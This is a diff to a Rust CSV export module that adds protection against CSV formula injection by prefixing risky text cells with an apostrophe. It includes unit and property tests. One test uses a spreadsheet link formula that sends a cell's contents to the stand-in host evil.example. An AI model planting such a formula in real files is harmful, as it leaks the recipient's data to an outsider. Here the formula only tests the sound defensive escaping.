@@ -6,7 +6,11 @@ use super::{Cell, Table};
 pub const BOM: &str = "\u{feff}";
 
 /// One row as a CSV line, its line end included. A value with a comma, a quote or a line
-/// break is quoted, its quotes doubled.
+/// break is quoted, its quotes doubled. A text that a spreadsheet would run as a formula
+/// (it starts with `=`, `+`, `-`, `@`, a tab or a carriage return) is written after an
+/// apostrophe, so a volunteer's «=HYPERLINK(…)» is shown as text, never run, on the
+/// coordinator's computer (OWASP's advice for CSV injection). Numbers are cells of their own
+/// kind and keep their sign.
 pub fn line<'a>(cells: impl IntoIterator<Item = &'a Cell>) -> String {
     let mut line = String::new();
     for (i, cell) in cells.into_iter().enumerate() {
@@ -15,7 +19,7 @@ pub fn line<'a>(cells: impl IntoIterator<Item = &'a Cell>) -> String {
         }
         let text = match cell {
             Cell::Empty => String::new(),
-            Cell::Text(text) => text.clone(),
+            Cell::Text(text) => neutralised(text),
             Cell::Int(n) => n.to_string(),
             Cell::Real(x) => x.to_string(),
             Cell::Date(date) => date.to_string(),
@@ -30,6 +34,17 @@ pub fn line<'a>(cells: impl IntoIterator<Item = &'a Cell>) -> String {
     }
     line.push_str("\r\n");
     line
+}
+
+/// Starts that make a spreadsheet read a cell as a formula.
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+fn neutralised(text: &str) -> String {
+    if text.starts_with(FORMULA_STARTS) {
+        format!("'{text}")
+    } else {
+        text.to_owned()
+    }
 }
 
 /// The headings' line.
@@ -68,5 +83,38 @@ mod tests {
             line(&row),
             "\"Двор, 5\",\"«Сад» \"\"памяти\"\"\",\"две\r\nстроки\",-3,55.3541,2025-05-16,\r\n"
         );
+    }
+
+    #[test]
+    fn a_formula_is_written_as_text() {
+        let row = [
+            Cell::Text("=HYPERLINK(\"http://evil.example/?\"&A1,\"Двор\")".into()),
+            Cell::Text("+7 905 123-45-67".into()),
+            Cell::Text("@SUM(A1)".into()),
+            Cell::Text("\tлист".into()),
+            Cell::Text("Двор = сад".into()),
+            Cell::Int(-3),
+        ];
+        assert_eq!(
+            line(&row),
+            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Двор\"\")\",'+7 905 123-45-67,'@SUM(A1),'\tлист,Двор = сад,-3\r\n"
+        );
+    }
+
+    proptest::proptest! {
+        /// Whatever a person typed, no cell a spreadsheet reads from the file starts a
+        /// formula, and the text is there whole after the apostrophe.
+        #[test]
+        fn no_text_cell_starts_a_formula(text in "[=+\\-@\t\r]?[^\r\n]{0,20}") {
+            let written = line(&[Cell::Text(text.clone())]);
+            let cell = written.strip_suffix("\r\n").expect("a line end");
+            let unquoted = match cell.strip_prefix('"').and_then(|c| c.strip_suffix('"')) {
+                Some(inner) => inner.replace("\"\"", "\""),
+                None => cell.to_owned(),
+            };
+            proptest::prop_assert!(!unquoted.starts_with(FORMULA_STARTS));
+            let original = unquoted.strip_prefix('\'').filter(|_| text.starts_with(FORMULA_STARTS)).unwrap_or(&unquoted);
+            proptest::prop_assert_eq!(original, text.as_str());
+        }
     }
 }
